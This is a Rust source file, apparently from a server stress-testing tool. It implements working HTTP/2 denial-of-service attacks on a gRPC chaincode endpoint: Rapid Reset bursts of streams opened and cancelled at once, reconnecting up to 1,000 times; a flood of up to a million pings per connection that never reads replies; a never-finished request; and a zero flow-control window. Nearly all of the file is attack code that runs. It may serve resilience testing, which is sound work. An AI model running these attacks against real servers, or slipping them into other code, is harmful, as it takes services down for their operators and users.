//! HTTP/2, frame by frame.

use std::net::SocketAddr;

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
    time::{Duration, Instant, timeout, timeout_at},
};

use crate::{
    peer::{PATIENCE, Target},
    report::{Tally, Told},
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
pub(crate) const HALF_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
/// Flag of SETTINGS and PING.
const ACK: u8 = 1;
/// Flag of HEADERS.
const END_HEADERS: u8 = 4;
/// Error code of RST_STREAM.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// How often a connection pings at most.
const PINGS: usize = 1_000_000;

/// How many requests are made and reset between two looks at the server's answers.
const BURST: u32 = 100;
/// How often a connection that the server ended is made again.
const CONNECTIONS: u32 = 1_000;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let mut frame = length.into_iter().skip(1).collect::<Vec<u8>>();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a request for a stream.
fn headers(address: SocketAddr) -> Vec<u8> {
    let text = |text: &str| {
        let mut bytes = vec![u8::try_from(text.len()).unwrap_or_default()];
        bytes.extend(text.as_bytes());
        bytes
    };
    // indexed in HPACK's own table: `:method POST`, `:scheme http`; then names of it, never indexed
    let mut block = vec![0x83, 0x86, 0x04];
    block.extend(text("/protos.Chaincode/Connect"));
    block.push(0x01);
    block.extend(text(&address.to_string()));
    block.extend([0x0f, 0x10]);
    block.extend(text("application/grpc"));
    block.push(0x00);
    block.extend(text("te"));
    block.extend(text("trailers"));
    block
}

/// A connection's beginning, and the headers of a request that go on and never do.
pub(crate) fn half_request(address: SocketAddr) -> Vec<u8> {
    let settings = frame(SETTINGS, 0, 0, &[]);
    let headers = frame(HEADERS, 0, 1, &headers(address));
    [PREFACE, &settings, &headers].concat()
}

/// A whole request whose answer may have no byte, as the settings say.
pub(crate) fn without_window(address: SocketAddr) -> Vec<u8> {
    // SETTINGS_INITIAL_WINDOW_SIZE: 0
    let settings = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let headers = frame(HEADERS, END_HEADERS, 1, &headers(address));
    [PREFACE, &settings, &headers].concat()
}

/// The answers to the pings in what the server said, as far as each came in one piece.
pub(crate) fn pongs(said: &[u8]) -> Vec<u8> {
    let ping = frame(PING, 0, 0, &[0; 8]);
    let (head, length) = (ping.get(..9).unwrap_or_default(), ping.len());
    let pings = said.windows(length).filter(|part| part.starts_with(head));
    let contents = pings.filter_map(|ping| ping.get(9..));
    contents
        .flat_map(|content| frame(PING, ACK, 0, content))
        .collect()
}

/// Connections that ping as long as the server reads, and read nothing themselves.
pub(crate) async fn pings(target: &Target, count: u32, lasting: Duration) -> anyhow::Result<Told> {
    let mut tally = Tally::default();
    let mut open = JoinSet::new();
    let until = Instant::now() + lasting;
    for _ in 0..count {
        let mut stream = match target.raw().await {
            Ok(stream) => stream,
            Err(error) => {
                tally.failed(format_args!("{error:#}"));
                continue;
            }
        };
        let opened = Instant::now();
        let settings = frame(SETTINGS, 0, 0, &[]);
        let burst = frame(PING, 0, 0, &[0; 8]).repeat(1_000);
        open.spawn(async move {
            let pinging = async {
                stream.write_all(&[PREFACE, &settings].concat()).await?;
                let mut sent = 0usize;
                while sent < PINGS {
                    stream.write_all(&burst).await?;
                    sent = sent.saturating_add(1_000);
                }
                std::future::pending::<std::io::Result<()>>().await
            };
            match timeout_at(until, pinging).await {
                Ok(_) => Some(opened.elapsed()),
                Err(_) => None,
            }
        });
    }
    while let Some(ended) = open.join_next().await {
        if let Ok(Some(after)) = ended {
            tally.closed(after);
        }
    }
    let did = format!(
        "{count} connections that ping and do not read, {} s",
        lasting.as_secs()
    );
    Ok(Told::new(did, tally.to_string()))
}

/// Opens requests and resets them at once; begins again where the server ends the connection.
pub(crate) async fn rapid_reset(
    target: &Target,
    count: u32,
    lasting: Duration,
) -> anyhow::Result<Told> {
    let mut tally = Tally::default();
    let until = Instant::now() + lasting;
    let (mut sent, mut connections) = (0u32, 0u32);
    while sent < count && connections < CONNECTIONS && Instant::now() < until {
        connections = connections.saturating_add(1);
        let opened = Instant::now();
        match resets(target, count.saturating_sub(sent), until).await {
            Ok((some, true)) => {
                sent = sent.saturating_add(some);
                tally.closed(opened.elapsed());
            }
            Ok((some, false)) => sent = sent.saturating_add(some),
            Err(error) => tally.failed(format_args!("{error:#}")),
        }
    }
    let did = format!("{sent} requests reset at once, on {connections} connections");
    Ok(Told::new(did, tally.to_string()))
}

/// How many requests one connection took, and whether the server ended it.
async fn resets(target: &Target, count: u32, until: Instant) -> anyhow::Result<(u32, bool)> {
    let mut stream = target.raw().await?;
    let settings = [frame(SETTINGS, 0, 0, &[]), frame(SETTINGS, ACK, 0, &[])].concat();
    stream.write_all(&[PREFACE, &settings].concat()).await?;
    let block = headers(target.address);
    let (mut sent, mut id, mut said) = (0u32, 1u32, vec![0; 64 << 10]);
    while sent < count && Instant::now() < until {
        let mut burst = Vec::new();
        for _ in 0..BURST {
            burst.extend(frame(HEADERS, END_HEADERS, id, &block));
            burst.extend(frame(RST_STREAM, 0, id, &CANCEL));
            id = id.saturating_add(2);
        }
        match timeout(PATIENCE, stream.write_all(&burst)).await {
            Ok(Ok(())) => sent = sent.saturating_add(BURST),
            Ok(Err(_)) => return Ok((sent, true)),
            Err(_) => anyhow::bail!("the server does not read"),
        }
        loop {
            match stream.try_read(&mut said) {
                Ok(0) => return Ok((sent, true)),
                Ok(_) => {}
                Err(error) if error.kind() == std::io::ErrorKind::WouldBlock => break,
                Err(_) => return Ok((sent, true)),
            }
        }
    }
    // whether it minds
    while let Ok(Ok(length)) = timeout(Duration::from_secs(1), stream.read(&mut said)).await {
        if length == 0 {
            return Ok((sent, true));
        }
    }
    Ok((sent, false))
}
